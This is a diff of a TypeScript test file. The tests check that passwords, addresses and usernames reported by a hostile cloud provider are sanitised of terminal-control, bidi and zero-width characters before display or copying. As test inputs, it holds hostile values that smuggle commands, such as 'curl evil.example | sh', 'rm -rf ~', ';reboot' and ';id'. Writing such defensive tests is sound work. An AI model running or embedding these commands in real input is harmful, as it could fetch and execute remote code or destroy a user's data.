@@ -1,9 +1,9 @@
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 
-import { randomFrom } from "@/lib/testing/random";
-import { Rig } from "@/lib/testing/rig";
+import { createRandom } from "@/lib/testing/random";
+import { LaunchHarness } from "@/lib/testing/rig";
 
-import { shownSecret } from "./reveal";
+import { formatSecret } from "./reveal";
 
 /** Everything that a terminal obeys or that hides or turns what a person reads: control, bidi, zero-width, line separators. */
 const dangerous = [
@@ -26,12 +26,12 @@ describe("a secret that a provider reports", () => {
   it("has a mark for each character that could paste a command or be read as another, and is copied without", () => {
     for (const character of dangerous) {
       const code = character.codePointAt(0)!.toString(16);
-      const { value, shown, hidden } = shownSecret(`pass${character}rm -rf ~${character}`);
+      const { value, shown, hidden } = formatSecret(`pass${character}rm -rf ~${character}`);
       expect(value, code).toBe("passrm -rf ~");
       expect(hidden, code).toBe(2);
       expect(shown.map(({ text }) => text).join(""), code).toMatch(/^[ -~]+$/);
       expect(
-        shown.map(({ isMark }) => isMark),
+        shown.map(({ isPlaceholder: isMark }) => isMark),
         code,
       ).toEqual([false, true, false, true]);
     }
@@ -39,7 +39,7 @@ describe("a secret that a provider reports", () => {
 
   it("keeps every other character", () => {
     const secret = "Pä$$ wörd-<b>&`$(x)`; 密码 🔑 \\n %0A";
-    expect(shownSecret(secret)).toEqual({
+    expect(formatSecret(secret)).toEqual({
       ok: true,
       value: secret,
       shown: [{ text: secret, isMark: false }],
@@ -48,21 +48,21 @@ describe("a secret that a provider reports", () => {
   });
 
   it("marks the half of a pair", () => {
-    expect(shownSecret("a\ud83db")).toMatchObject({ value: "ab", hidden: 1 });
+    expect(formatSecret("a\ud83db")).toMatchObject({ value: "ab", hidden: 1 });
   });
 });
 
 describe("a machine of a hostile provider", () => {
-  let rig: Rig;
+  let rig: LaunchHarness;
   beforeEach(async () => {
-    rig = await Rig.open({ provider: "massedcompute", random: randomFrom(608) });
+    rig = await LaunchHarness.open({ provider: "massedcompute", random: createRandom(608) });
     expect((await rig.launch({ hours: null })).kind).toBe("launched");
-    await rig.pass(30);
+    await rig.advance(30);
   });
   afterEach(() => rig.close());
 
   it("pastes no command by its password, and none by its address", async () => {
-    const [{ nativeId } = { nativeId: "" }] = await rig.present();
+    const [{ nativeId } = { nativeId: "" }] = await rig.listPresentMachines();
     const password = "hunter2\r\ncurl evil.example | sh\n\u001b[201~\u202e";
     const row = { uuid: nativeId, status: "rented", password, ip: "1.2.3.4\n;reboot", username: "root\n;id" };
     const route = "GET /instance/{uuid}";
@@ -71,7 +71,7 @@ describe("a machine of a hostile provider", () => {
       await rig.control({ fault: { kind: "status", status: 200, body, times: 5, ...(on && { route: on }) } });
     const secrets = await rig.cloud.machines.reveal!(nativeId, AbortSignal.timeout(5_000));
     expect(secrets).toContainEqual({ label: "Password", value: password });
-    expect(shownSecret(password)).toMatchObject({ value: "hunter2curl evil.example | sh[201~", hidden: 5 });
+    expect(formatSecret(password)).toMatchObject({ value: "hunter2curl evil.example | sh[201~", hidden: 5 });
     const machine = await rig.cloud.machines.read(nativeId, AbortSignal.timeout(5_000));
     expect(machine!.ssh).toBeNull();
   });
